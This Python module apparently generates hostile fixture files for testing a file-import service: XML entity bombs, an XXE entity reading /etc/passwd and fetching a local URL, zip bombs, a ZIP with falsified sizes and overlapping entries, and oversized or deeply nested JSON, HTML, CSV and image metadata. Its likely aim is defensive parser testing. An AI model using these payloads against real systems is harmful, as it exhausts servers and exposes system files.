"""Files that attack whoever opens them: small on a disk, endless when they are read.

`FILES` names each with its ending and who writes it. None holds anything personal.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any

from workbooks import parts, relations, rows_xml, sheet_xml

Write = Callable[[Path], None]
Part = str | bytes | Iterable[bytes]
_MEGA = 1_000_000
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
_QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
_EXTERNAL = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://127.0.0.1:9/b">%b;]>'
_SAID = {"laughs": ("&a11;", _LAUGHS), "quadratic": ("&a;" * 10_000, _QUADRATIC)}
_SAID["external"] = ("&a;", _EXTERNAL)


def many(text: bytes, size: int) -> Iterable[bytes]:
    """So many bytes of a text said again and again, a megabyte at a time."""
    piece = text * (_MEGA // len(text) + 1)
    for _ in range(size // len(piece) + 1):
        yield piece


def zipped(path: Path, given: Mapping[str, Part]) -> None:
    """A ZIP of these parts."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, part in given.items():
            with archive.open(name, "w", force_zip64=True) as file:
                pieces = [part.encode()] if isinstance(part, str) else part
                for piece in [pieces] if isinstance(pieces, bytes) else pieces:
                    file.write(piece)


def _book(**more: Any) -> dict[str, Part]:
    return dict(parts({"Data": sheet_xml(rows_xml([["kode", "nama"], ["a", "b"]]))}, **more))


def _with(changes: Callable[[], Mapping[str, Part]]) -> Write:
    """A workbook of one small table with such parts added or changed."""

    def write(path: Path) -> None:
        zipped(path, {**_book(), **changes()})

    return write


def _around(start: str, text: bytes, size: int, end: str = "") -> Iterable[bytes]:
    yield start.encode()
    yield from many(text, size)
    yield end.encode()


def _entities(part: str, kind: str) -> Write:
    """A workbook of which one part declares entities."""
    text, head = _SAID[kind]

    def write(path: Path) -> None:
        given = _book(strings="<sst><si><t>x</t></si></sst>")
        old = given.get(part, f"<x><t>{text}</t><comment ref='A1'>{text}</comment></x>")
        assert isinstance(old, str)
        body = old.partition("?>")[2] if old.startswith("<?xml") else old
        zipped(
            path, {**given, part: f'<?xml version="1.0"?>{head}{body.replace("<t>", f"<t>{text}")}'}
        )

    return write


_ENTITY_PARTS = (
    *("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/comments1.xml"),
    *("docProps/core.xml", "docProps/app.xml", "xl/drawings/drawing1.xml", "xl/workbook.xml"),
    *("xl/_rels/workbook.xml.rels", "customXml/item1.xml", "xl/threadedComments/a.xml"),
)


def _shared(path: Path) -> None:
    """One text of 30,000 letters that a million cells name."""
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 400_000))
    strings = f"<sst><si><t>{'x' * 30_000}</t></si></sst>"
    zipped(path, parts({"Data": sheet_xml(cells)}, strings=strings))


def _unlisted_strings(path: Path) -> None:
    """Shared texts that no relation names: readers look where they always lie."""
    zipped(path, {**_book(), "xl/sharedStrings.xml": _around("<sst><si><t>", b"x", 1500 * _MEGA)})


def _lying(path: Path) -> None:
    """A gigabyte and a half of zeros that the directory says is a hundred bytes."""
    zipped(path, {**_book(), "xl/sharedStrings.xml": many(b"\0", 1500 * _MEGA)})
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x01\x02")
    size = struct.pack("<I", 100)
    extra, name = (
        struct.unpack_from("<H", data, at + 30)[0],
        struct.unpack_from("<H", data, at + 28)[0],
    )
    data[at + 24 : at + 28] = size
    if extra:
        field = data[at + 46 + name : at + 46 + name + extra]
        data[at + 46 + name : at + 46 + name + extra] = b"\xff\xff" + field[2:]
    path.write_bytes(data)


def _far(path: Path) -> None:
    """Sheets of two cells each, in opposite corners, which make rectangles of millions."""
    sheet = sheet_xml(
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1000000"><c r="O1000000"><v>1</v></c></row>'
    )
    zipped(path, parts({f"S{n}": sheet for n in range(60)}))


def _false_values(path: Path) -> None:
    """Millions of values in one cell make a rectangle that none of them fills."""
    values = "<v></v>" * 20_000_000
    zipped(
        path,
        parts(
            {
                "Data": sheet_xml(
                    f'<row r="1"><c r="A1">{values}</c><c r="XFD4000"><v>1</v></c></row>'
                )
            }
        ),
    )


def _overlapping(path: Path) -> None:
    """Two thousand entries that all point at the same hundred megabytes."""
    zipped(path, {"xl/a.xml": many(b"<a/>", 20 * _MEGA)})
    data = path.read_bytes()
    at = data.rfind(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    entry = data[at : data.find(b"PK\x06\x06", at) if b"PK\x06\x06" in data else end]
    copies = b"".join(
        entry.replace(
            b"xl/a.xml",
            f"xl/{chr(97 + n // 500)}{n % 500:03}".encode()[:8].ljust(8, b"x")[:4] + b".xml",
        )
        for n in range(2000)
    )
    entries = struct.pack("<HH", 2000, 2000)
    tail = data[end : end + 8] + entries + struct.pack("<II", len(copies), at) + b"\0\0"
    path.write_bytes(data[:at] + copies + tail)


def _ods(content: Part) -> Write:
    def write(path: Path) -> None:
        kind = "application/vnd.oasis.opendocument.spreadsheet"
        zipped(path, {"mimetype": kind, "content.xml": content, "META-INF/manifest.xml": "<m/>"})

    return write


_ODS = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
    '<office:spreadsheet><table:table table:name="Data">%s</table:table></office:spreadsheet>'
    "</office:body></office:document-content>"
)
_ODS_CELL = (
    '<table:table-cell table:number-columns-repeated="%d" office:value-type="string">'
    "<text:p>x</text:p></table:table-cell>"
)


def _ods_repeated(rows: int, columns: int) -> Write:
    row = f'<table:table-row table:number-rows-repeated="{rows}">{_ODS_CELL % columns}'
    return _ods(_ODS % f"{row}</table:table-row>")


def _xlsb_far(path: Path) -> None:
    """A binary workbook of two cells in opposite corners."""

    def record(kind: int, data: bytes) -> bytes:
        head = bytes([kind]) if kind < 128 else bytes([kind & 127 | 128, kind >> 7])
        return head + bytes([len(data)]) + data

    def text(given: str) -> bytes:
        return struct.pack("<I", len(given)) + given.encode("utf-16-le")

    sheet = (
        record(129, b"")
        + record(148, struct.pack("<IIII", 0, 1_048_575, 0, 16_383))
        + record(145, b"")
    )
    for row, column in ((0, 0), (1_048_575, 16_383)):
        sheet += record(0, struct.pack("<I", row) + b"\0" * 13)
        sheet += record(5, struct.pack("<IId", column, 0, 1.0))
    sheet += record(146, b"") + record(130, b"")
    listed = record(156, struct.pack("<II", 0, 1) + text("rId1") + text("Data"))
    book = record(131, b"") + record(143, b"") + listed + record(144, b"") + record(132, b"")
    related = relations([("worksheet", "worksheets/sheet1.bin", "rId1")])
    zipped(
        path,
        {
            "_rels/.rels": relations([("officeDocument", "xl/workbook.bin", "rId1")]),
            "xl/workbook.bin": book,
            "xl/_rels/workbook.bin.rels": related,
            "xl/worksheets/sheet1.bin": sheet,
        },
    )


def _document(**changes: Part) -> Write:
    def write(path: Path) -> None:
        more = {
            name.replace("__", "/").replace("_xml", ".xml"): part for name, part in changes.items()
        }
        zipped(
            path, {"word/document.xml": "<w:document/>", "[Content_Types].xml": "<Types/>", **more}
        )

    return write


def _jpeg(segment: bytes, count: int) -> Write:
    """A picture with so many pieces of metadata."""

    def write(path: Path) -> None:
        mark = struct.pack(">H", len(segment[2:]) + 2)
        path.write_bytes(b"\xff\xd8" + (segment[:2] + mark + segment[2:]) * count + b"\xff\xd9")

    return write


def _png(chunk: bytes, data: bytes, count: int) -> Write:
    def write(path: Path) -> None:
        one = struct.pack(">I", len(data)) + chunk + data + b"\0\0\0\0"
        path.write_bytes(b"\x89PNG\r\n\x1a\n" + one * count)

    return write


def _directories(path: Path) -> None:
    """Exif whose directories all point at one another."""
    entries = b"".join(struct.pack("<HHII", 0x8769, 4, 1, 8 + n) for n in range(5000))
    tiff = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 5000) + entries
    _jpeg(b"\xff\xe1Exif\0\0" + tiff, 500)(path)


def _text(text: bytes, size: int, head: bytes = b"", tail: bytes = b"") -> Write:
    def write(path: Path) -> None:
        with path.open("wb") as file:
            file.write(head)
            for piece in many(text, size):
                file.write(piece)
            file.write(tail)

    return write


_ZEROS = zlib.compress(b"\0" * 50_000_000, 9)

#: Name: (ending, who writes it).
FILES: dict[str, tuple[str, Write]] = {
    **{
        f"{kind}-{part.rpartition('/')[2]}-{part.partition('/')[0]}": (
            "xlsx",
            _entities(part, kind),
        )
        for part in _ENTITY_PARTS
        for kind in _SAID
    },
    "zeros": ("xlsx", _with(lambda: {"xl/media/a.png": many(b"\0", 1500 * _MEGA)})),
    "nested": ("xlsx", _with(lambda: {"xl/embeddings/a.xlsx": many(b"PK\x03\x04", 90 * _MEGA)})),
    "lying": ("xlsx", _lying),
    "overlapping": ("xlsx", _overlapping),
    "shared": ("xlsx", _shared),
    "unlisted-strings": ("xlsx", _unlisted_strings),
    "open-strings": (
        "xlsx",
        _with(
            lambda: {
                "xl/sharedStrings.xml": _around("<sst>", b"<si>", 15 * _MEGA),
                "xl/_rels/workbook.xml.rels": relations(
                    [
                        ("worksheet", "worksheets/sheet1.xml", "rId1"),
                        ("sharedStrings", "sharedStrings.xml", "rId9"),
                    ]
                ),
            }
        ),
    ),
    "open-comments": (
        "xlsx",
        _with(lambda: {"xl/comments1.xml": _around("<c>", b"<comment a>", 15 * _MEGA)}),
    ),
    "long-name": (
        "xlsx",
        _with(lambda: {"xl/drawings/drawing1.xml": _around("<", b"a", 12 * _MEGA)}),
    ),
    "many-tags": ("xlsx", _with(lambda: {"xl/drawings/drawing1.xml": many(b"<a/>", 90 * _MEGA)})),
    "many-sheet-data": (
        "xlsx",
        _with(lambda: {"xl/worksheets/sheet9.xml": many(b"<sheetData/>", 90 * _MEGA)}),
    ),
    "external-links": (
        "xlsx",
        _with(
            lambda: {
                "xl/worksheets/_rels/sheet1.xml.rels": _around(
                    "<", b' TargetMode="External"', 12 * _MEGA
                )
            }
        ),
    ),
    "far-sheets": ("xlsx", _far),
    "false-values": ("xlsx", _false_values),
    "ods-rows": ("ods", _ods_repeated(1_000_000_000, 1)),
    "ods-rectangle": ("ods", _ods_repeated(1_048_576, 16_384)),
    "ods-entities": ("ods", _ods(f'<?xml version="1.0"?>{_LAUGHS}{_ODS % "&a11;"}')),
    "ods-zeros": ("ods", _ods(many(b"\0", 1500 * _MEGA))),
    "ods-as-xlsx": ("xlsx", _ods_repeated(1_048_576, 16_384)),
    "xlsb-far": ("xlsb", _xlsb_far),
    "xlsb-as-xlsx": ("xlsx", _xlsb_far),
    "html-as-xlsx": ("xlsx", _text(b"<table><tr><td>", 30 * _MEGA, b"<html>")),
    "docx-zeros": ("docx", _document(word__media__a=many(b"\0", 1500 * _MEGA))),
    "docx-tags": ("docx", _document(word__footer1_xml=many(b"<w:t>", 90 * _MEGA))),
    "docx-pictures": (
        "docx",
        _document(
            **{
                f"word__media__{n}": b"\xff\xd8"
                + (b"\xff\xe1\xff\xfe" + b"creator " * 8191 + b"    ") * 100
                for n in range(30)
            }
        ),
    ),
    "xmp": ("jpg", _jpeg(b"\xff\xe1" + b"creator " * 8000, 1400)),
    "xmp-tags": ("jpg", _jpeg(b"\xff\xe1" + b"creator>" + b"<a> " * 16_000, 500)),
    "iptc": ("jpg", _jpeg(b"\xff\xed" + b"\x1c\x02\x50\xff\xff" * 13_000, 1400)),
    "exif": ("jpg", _directories),
    "png-text": ("png", _png(b"zTXt", b"Comment\0\0" + _ZEROS, 1900)),
    "json-deep": ("json", _text(b"[", 50 * _MEGA)),
    "json-objects": ("json", _text(b'{"a":1},', 50 * _MEGA, b"[", b"{}]")),
    "json-lists": ("json", _text(b"[],", 50 * _MEGA, b"[", b"0]")),
    "json-lines": ("jsonl", _text(b"{}\n", 50 * _MEGA)),
    "json-blank": ("json", _text(b"\n", 50 * _MEGA, b"x")),
    "json-digits": ("json", _text(b"9", 10 * _MEGA, b"[", b"]")),
    "geojson-deep": ("geojson", _text(b'{"type":"GeometryCollection","geometries":[', 50 * _MEGA)),
    "html-deep": ("html", _text(b"<div>", 90 * _MEGA, b"<html>")),
    "html-cells": ("html", _text(b"<td>x", 90 * _MEGA, b"<html><table>")),
    "html-texts": ("html", _text(b"<p>x", 90 * _MEGA, b"<html>")),
    "html-comment": ("html", _text(b"<!--", 90 * _MEGA, b"<html>")),
    "html-tag": ("html", _text(b"a ", 90 * _MEGA, b"<html><a ")),
    "html-quote": ("html", _text(b"<a b='", 90 * _MEGA, b"<html>")),
    "html-script": ("html", _text(b"<", 90 * _MEGA, b"<html><script>")),
    "xml-2003": (
        "xml",
        _text(b"<Row><Cell>x", 90 * _MEGA, b"<?xml version='1.0'?>" + _LAUGHS.encode()),
    ),
    "csv-line": ("csv", _text(b"x", 90 * _MEGA)),
    "csv-columns": ("csv", _text(b"kolom,", 12 * _MEGA, b"", b"\n1,2\n")),
    "csv-columns-rows": ("csv", _text(b"ab," * 300_000 + b"\n", 12 * _MEGA)),
    "csv-quote": ("csv", _text(b"x,\n", 12 * _MEGA, b'a,b\n1,"')),
    "csv-blank": ("csv", _text(b"\n", 60 * _MEGA, b"a,b\n1,2\n")),
    "sql-line": ("sql", _text(b"xy ", 12 * _MEGA, "\U0001f600".encode())),
    "md-table": ("md", _text(b"|ab" * 300_000 + b"\n", 12 * _MEGA, b"# x\n")),
    "md-rules": ("md", _text(b"|" + b" - " * 100_000 + b"x\n", 12 * _MEGA)),
    "text-line": ("txt", _text(b"abc;", 12 * _MEGA)),
}
